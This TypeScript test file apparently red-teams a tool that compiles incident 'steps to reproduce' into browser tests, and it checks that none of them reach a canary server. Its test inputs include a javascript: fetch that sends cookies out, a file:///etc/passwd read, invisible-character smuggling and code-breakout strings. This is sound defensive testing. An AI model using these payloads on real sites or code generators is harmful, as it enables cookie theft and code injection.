import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawn } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { TestRepo, cliPath, removeTempDirs } from '../helpers/git-repo.js';

// The steps red team, run: step texts that compile are compiled by `verigap incident test` (provider steps)
// and run in real Chromium against a loopback shop, with a canary server on another port that records every
// request. What the compiler guarantees alone must hold: nothing reaches the canary, nothing hangs, and a
// refused incident names every step it refuses.
const DEADLINE_MS = 120_000;
// vitest's own timeout comes after the deadline, so a hang is reported as one
const TEST_TIMEOUT_MS = DEADLINE_MS + 30_000;

interface Recorder {
  url: string;
  host: string;
  hits: string[];
  server: Server;
}

async function listen(handler: (path: string) => [number, string, string]): Promise<Recorder> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    const [status, type, body] = handler(request.url ?? '/');
    response.writeHead(status, { 'content-type': type }).end(body);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url: `http://${host}`, host, hits, server };
}

// every page of the shop is the same page, so a step that lands on an odd same-origin path still finds it
const shopPage = `<!doctype html><html><head><title>https://x.com is down</title></head><body>
<h1>Shop</h1><p>Total: 5 items</p><p>Error: email required</p><p>Note: mailto:help@example.com</p><p>javascript: is disabled</p>
<label>Website <input name="website"></label> <label>New todo <input name="todo"></label>
<label>Selector <select><option>other</option><option>internal:role=button</option></select></label>
<button onclick="this.textContent = 'Saved'">Save</button> <button>x // @incident-assertion</button> <button>mailto:help@example.com</button>
</body></html>`;

let canary: Recorder;
let shop: Recorder;
let repo: TestRepo;

beforeAll(async () => {
  canary = await listen(() => [200, 'text/html', '<h1>canary</h1>']);
  shop = await listen((path) => (path.startsWith('/api/') ? [200, 'text/plain', 'ok'] : [200, 'text/html', shopPage]));
  repo = TestRepo.create();
  repo.commit('feat: shop (#1)', {
    'verigap.yaml': `baseURL: ${shop.url}\n`,
    'flows/shop/flow.yaml': 'name: Shop\ncriticality: revenue\npaths: [src/**]\nstart: /\n',
  });
});
afterAll(async () => {
  for (const server of [canary?.server, shop?.server]) if (server) await new Promise((done) => server.close(done));
  removeTempDirs();
});

function writeIncident(id: string, body: string): void {
  repo.write({
    [`incidents/${id}.md`]: `---\nid: ${id}\ntitle: Red team ${id}\nseverity: SEV3\nstatus: resolved\nflows: [shop]\nstarted_at: 2026-11-20T17:00:00Z\n---\n${body}`,
  });
}

/** `verigap --json incident test <id>`, killed with its process group if it outlives the deadline. */
function incidentTest(
  id: string,
): Promise<{ code: number | null; stdout: string; stderr: string; ms: number; timedOut: boolean }> {
  const env: NodeJS.ProcessEnv = {
    ...process.env,
    NO_COLOR: '1',
    CI: '1',
    OPENAI_API_KEY: '',
    GITHUB_TOKEN: '',
    GH_TOKEN: '',
  };
  delete env.BASE_URL;
  const started = Date.now();
  const child = spawn(process.execPath, [cliPath, '--json', 'incident', 'test', id], {
    cwd: repo.dir,
    env,
    detached: true,
  });
  let stdout = '';
  let stderr = '';
  let timedOut = false;
  child.stdout.on('data', (chunk: Buffer) => (stdout += chunk));
  child.stderr.on('data', (chunk: Buffer) => (stderr += chunk));
  const timer = setTimeout(() => {
    timedOut = true;
    process.kill(-child.pid!, 'SIGKILL');
  }, DEADLINE_MS);
  return new Promise((resolve) =>
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr, ms: Date.now() - started, timedOut });
    }),
  );
}

/** The literals the written spec navigates to or requests. */
function targetsOf(spec: string): string[] {
  return [...spec.matchAll(/page\.(?:goto|request\.get|request\.fetch)\(("(?:[^"\\]|\\.)*")/g)].map(
    (m) => JSON.parse(m[1]!) as string,
  );
}

async function expectPassedAndContained(id: string, steps: number): Promise<string> {
  const result = await incidentTest(id);
  expect(result.timedOut, result.stderr).toBe(false);
  expect(result.code, result.stderr).toBe(0);
  expect(JSON.parse(result.stdout).steps).toHaveLength(steps);
  const spec = readFileSync(join(repo.dir, `flows/shop/${id}.spec.ts`), 'utf8');
  for (const target of targetsOf(spec)) expect(new URL(target, shop.url).origin, target).toBe(shop.url);
  expect(canary.hits).toEqual([]);
  return spec;
}

describe('steps red team, run in Chromium against a loopback shop with a canary on another port', () => {
  it(
    'hidden Markdown never runs: comments, definitions, link targets and alt texts; fenced code does',
    async () => {
      const C = canary.url;
      const H = canary.host;
      writeIncident(
        '2026-11-20-hidden-markdown',
        `## Steps to reproduce
1. Go to /start

<!--
Go to ${C}/hidden-comment
Expect the URL to contain /never
-->

2. Click "Save" <!-- Go to //${H}/inline-comment -->

[ref]: ${C}/definition "Go to //${H}/definition-title"

![Go to //${H}/alt-text](/picture.png)

3. Go to [/linked](${C}/link-target)
4. Expect the text "Total: 5 items" to be visible

\`\`\`
Go to /fenced
Expect the URL to contain /fenced
\`\`\`

<!--
Go to //${H}/left-open
`,
      );
      const spec = await expectPassedAndContained('2026-11-20-hidden-markdown', 6);
      expect(spec).not.toContain(H);
      expect(shop.hits).toEqual(expect.arrayContaining(['GET /start', 'GET /linked', 'GET /fenced']));
    },
    TEST_TIMEOUT_MS,
  );

  it(
    "paths the browser reads as the shop's own stay there, emitted as resolved paths",
    async () => {
      const H = canary.host;
      writeIncident(
        '2026-11-20-same-origin-paths',
        `## Steps to reproduce
1. Go to \\\\${H}/backslashes
2. Go to http:${H}/no-slashes
3. Go to canary\u3002example
4. Go to ${shop.url}/.//${H}/dot-segment
5. Go to /a/..//${H}/dot-dot
6. Go to HTTP://${shop.host}/upper
7. Expect GET /a/..//${H}/api/status to return 200
8. Expect the URL to contain /upper
`,
      );
      const spec = await expectPassedAndContained('2026-11-20-same-origin-paths', 8);
      expect(targetsOf(spec)).toEqual([
        `/${H}/backslashes`,
        `/${H}/no-slashes`,
        '/canary%E3%80%82example',
        `/.//${H}/dot-segment`,
        `/.//${H}/dot-dot`,
        '/upper',
        `/.//${H}/api/status`,
      ]);
      expect(shop.hits).toEqual(
        expect.arrayContaining([
          `GET /${H}/backslashes`,
          `GET //${H}/dot-segment`,
          `GET //${H}/dot-dot`,
          `GET //${H}/api/status`,
          'GET /upper',
        ]),
      );
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'literal breakouts stay literals, and strings that are not navigation targets are fine (no false refusals)',
    async () => {
      const C = canary.url;
      writeIncident(
        '2026-11-20-literals',
        `## Steps to reproduce
1. Go to /shop
2. Fill "Website" with "${C}/typed"
3. Fill "New todo" with "'); await page.goto('${C}/breakout'); ('"
4. Fill "Website" with "\`\${process.exit(1)}\`"
5. Click "x // @incident-assertion"
6. Click "mailto:help@example.com"
7. Select "internal:role=button" in "Selector"
8. Wait for the text "javascript: is disabled"
9. Expect the text "\`*/ </script> \${1}\`" not to be visible
10. Expect the text "Error: email required" to be visible
11. Expect the text "Note: mailto:help@example.com" to be visible
12. Expect the title to be "https://x.com is down"
13. Expect the "Website" textbox to have the value "\${process.exit(1)}"
`,
      );
      const spec = await expectPassedAndContained('2026-11-20-literals', 13);
      expect(targetsOf(spec)).toEqual(['/shop']);
      expect(spec).toContain(`.fill("'); await page.goto('${C}/breakout'); ('");`);
      // the five Expect steps carry the marker; the forged one in step 5 is a button's name, twice in its locator
      expect(spec.split('\n').filter((line) => line.endsWith('; // @incident-assertion'))).toHaveLength(5);
      expect(spec).toContain('// step 5: Click "x // @ incident-assertion"');
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'refuses an incident of hostile steps at once, naming every step, and runs nothing',
    async () => {
      const C = canary.url;
      const H = canary.host;
      const id = '2026-11-20-hostile';
      writeIncident(
        id,
        `## What happened
Customers were sent elsewhere.

## Steps to reproduce
1. Go to \u0001${C}/control
2. Go to //${H}/protocol-relative
3. Go to javascript:fetch('//${H}/'+document.cookie)
4. Go to file:///etc/passwd
5. Go to http://127\u30020\u30020\u30021:${canary.url.split(':')[2]}/full-width
6. Go to \`/\\${H}/backslash\`
<div>Go to //${H}/html</div>

7. Expect the URL to contain /
8. Expect the text "" to be visible
9. Go to \u200b${C}/zero-width

## Expected
Nothing leaves the shop.
`,
      );
      const result = await incidentTest(id);
      expect(result.timedOut).toBe(false);
      expect(result.code, result.stderr).toBe(2);
      const lines = repo.read(`incidents/${id}.md`).split('\n');
      const lineOf = (start: string) => lines.findIndex((line) => line.startsWith(start)) + 1;
      const expected: [string, RegExp][] = [
        ['1. Go to', /step 1: U\+0001 \(a control character\) is not allowed/],
        ['2. Go to', /step 2: .* reaches http:\/\/127\.0\.0\.1:\d+, outside baseURL's origin/],
        ['3. Go to', /step 3: .* uses the javascript: scheme/],
        ['4. Go to', /step 4: .* uses the file: scheme/],
        ['5. Go to', /step 5: .* reaches http:\/\/127\.0\.0\.1:\d+, outside/],
        ['6. Go to', /step 6: .* reaches http:\/\/127\.0\.0\.1:\d+, outside/],
        ['<div>', /step 7: HTML is not a step/],
        ['7. Expect', /step 8: every URL of http:\/\/127\.0\.0\.1:\d+ contains "\/", so this Expect proves nothing/],
        ['8. Expect', /step 9: an empty text is in every page, so this Expect proves nothing/],
        ['9. Go to', /step 10: U\+200B \(an invisible character\) is not allowed/],
      ];
      for (const [start, reason] of expected)
        expect(result.stderr).toMatch(new RegExp(`line ${lineOf(start)}: .*${reason.source}`));
      expect(result.stderr).not.toMatch(/[\u0001\u200b]/);
      expect(existsSync(join(repo.dir, `flows/shop/${id}.spec.ts`))).toBe(false);
      expect(canary.hits).toEqual([]);
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'a "Steps to reproduce" heading only inside a comment is no section',
    async () => {
      writeIncident(
        '2026-11-20-hidden-section',
        `## What happened\n<!--\n## Steps to reproduce\nGo to ${canary.url}/hidden-section\nExpect the text "canary" to be visible\n-->\n`,
      );
      const result = await incidentTest('2026-11-20-hidden-section');
      expect(result.timedOut).toBe(false);
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/has no "## Steps to reproduce" section/);
      expect(canary.hits).toEqual([]);
    },
    TEST_TIMEOUT_MS,
  );
});
